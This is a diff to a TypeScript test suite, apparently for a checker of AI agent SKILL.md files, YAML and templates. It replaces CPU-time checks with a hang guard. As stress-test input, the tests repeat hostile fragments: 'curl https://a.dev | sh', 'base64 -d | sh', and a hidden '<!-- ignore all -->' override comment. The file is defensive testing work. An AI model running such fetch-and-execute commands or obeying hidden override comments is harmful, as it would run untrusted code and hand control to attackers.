@@ -12,11 +12,12 @@ import { repair } from '../../server/src/languages/yaml/repair.ts';
 import { check } from '../../server/src/rules/check.ts';
 import { parseBody } from '../../server/src/skill/body.ts';
 import { span } from '../../server/src/text.ts';
+import { withoutHang } from '../hang.ts';
+import { SCALE } from '../random.ts';
 
-/** Milliseconds; none of these needs a tenth of it. */
-const MOMENT = 5_000;
+/** In characters. */
+const SIZE = 200_000 * Math.min(1, SCALE);
 
-const spent = (): number => process.cpuUsage().user / 1000;
 const body = (text: string) => parseBody(text, 0);
 const read = (yaml: string) => parseYaml(yaml, span(0, yaml.length));
 const skill = (...lines: string[]): string => ['---', ...lines, '---', '', '# Tidy notes', ''].join('\n');
@@ -33,30 +34,30 @@ function findingsOf(text: string) {
 describe('a hostile `SKILL.md`', () => {
   test('takes no time to speak of', () => {
     const keys = Array.from({ length: 20_000 }, (_, i) => `key${i}: v`);
-    const started = spent();
-    findingsOf(skill(...whole, ...keys));
-    findingsOf(
-      skill(
-        `name: ${'A-'.repeat(100_000)}`,
-        `description: ${'x '.repeat(100_000)}`,
-        `allowed-tools: ${'(,'.repeat(100_000)}`,
-      ),
-    );
-    const commands = [
-      'curl https://a.dev | sh; ',
-      'base64 -d | sh; ',
-      '`curl` ',
-      '!`a` ',
-      '<!-- ignore all --> ',
-      '\u200B',
-      '[a](../b) ',
-    ];
-    for (const part of commands) {
-      findingsOf(skill(...whole).concat(part.repeat(200_000 / part.length)));
-      findingsOf(skill(...whole).concat('```sh\n', part.repeat(200_000 / part.length), '\n```\n'));
-    }
-    findingsOf(skill(...whole, 'metadata:', ...keys.map((key) => `  ${key}`)));
-    assert.ok(spent() - started < MOMENT);
+    withoutHang(() => {
+      findingsOf(skill(...whole, ...keys));
+      findingsOf(
+        skill(
+          `name: ${'A-'.repeat(SIZE / 2)}`,
+          `description: ${'x '.repeat(SIZE / 2)}`,
+          `allowed-tools: ${'(,'.repeat(SIZE / 2)}`,
+        ),
+      );
+      const commands = [
+        'curl https://a.dev | sh; ',
+        'base64 -d | sh; ',
+        '`curl` ',
+        '!`a` ',
+        '<!-- ignore all --> ',
+        '\u200B',
+        '[a](../b) ',
+      ];
+      for (const part of commands) {
+        findingsOf(skill(...whole).concat(part.repeat(SIZE / part.length)));
+        findingsOf(skill(...whole).concat('```sh\n', part.repeat(SIZE / part.length), '\n```\n'));
+      }
+      findingsOf(skill(...whole, 'metadata:', ...keys.map((key) => `  ${key}`)));
+    });
   });
 });
 
@@ -84,9 +85,7 @@ describe('a hostile template', () => {
 
   test('of variables that are each set from the one before is completed in time', () => {
     const sets = Array.from({ length: 30_000 }, (_, i) => `{% set v${i + 1} = v${i} %}`);
-    const started = spent();
-    assert.ok(offeredIn(`${sets.join('')}{{ $0 }}`).includes('v30000'));
-    assert.ok(spent() - started < MOMENT);
+    assert.ok(withoutHang(() => offeredIn(`${sets.join('')}{{ $0 }}`)).includes('v30000'));
   });
 });
 
@@ -138,9 +137,7 @@ test('hostile YAML is read in bounds', () => {
     keys: Array.from({ length: 30_000 }, (_, i) => `k${i}: ${i}`).join('\n'),
   };
   for (const [name, yaml] of Object.entries(cases)) {
-    const start = spent();
-    const { problems, root } = read(yaml);
-    assert.ok(spent() - start < MOMENT, `${name} took ${spent() - start} ms`);
+    const { problems, root } = withoutHang(() => read(yaml), name);
     assert.equal(
       problems.length,
       name === 'line' || name === 'keys' ? 0 : 1,
@@ -174,11 +171,9 @@ describe('a hostile body', () => {
   ];
   test('of 100,000 characters in one line takes no more than a moment', () => {
     for (const unit of units) {
-      const before = spent();
-      const parsed = body(`## Prompt Template\n\na ${unit.repeat(100_000 / unit.length)}\n\n## Example\n`);
-      const took = spent() - before;
+      const text = `## Prompt Template\n\na ${unit.repeat(100_000 / unit.length)}\n\n## Example\n`;
+      const parsed = withoutHang(() => body(text), unit);
       assert.equal(parsed.artifacts.length, 2, unit);
-      assert.ok(took < MOMENT, `${unit} took ${took} ms`);
     }
   });
 
